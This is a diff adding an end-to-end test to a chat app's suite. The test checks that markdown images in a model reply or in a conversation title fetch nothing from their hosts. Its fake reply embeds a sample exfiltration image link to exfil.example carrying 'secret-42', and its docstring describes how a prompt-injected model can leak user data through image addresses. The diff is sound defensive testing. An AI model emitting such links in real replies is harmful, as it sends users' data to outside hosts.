@@ -165,3 +165,21 @@ def test_the_key_shows_in_no_page_no_message_and_no_log(
     log = app_server.log_text()
     assert log.strip(), "the server wrote no log at all"
     assert CANARY_KEY not in log
+
+
+def test_a_remote_image_in_a_reply_or_a_title_makes_no_request_to_its_host(
+    page: Any, app_server: StreamlitServer, e2e_fake: FakeAPI
+) -> None:
+    """A prompt-injected model can put the user's data in an image's address; showing it must not send it."""
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    e2e_fake.plan(Behaviour(reply="Here: ![chart](http://exfil.example/leak?data=secret-42) END-IMG"))
+    open_chat(page, app_server)
+    # The first message, written as an image, becomes the title listed in the sidebar.
+    send(page, "![t](http://title.example/pixel.png)")
+    wait_for_reply(page, "END-IMG")
+    link = page.locator(MESSAGE).last.get_by_role("link", name=re.compile(r"image: chart \(exfil\.example\)"))
+    expect(link).to_be_visible()
+    page.wait_for_timeout(500)
+    assert [u for u in requested if "exfil.example" in u or "title.example" in u] == []
+    assert page.locator("img[src*='example']").count() == 0
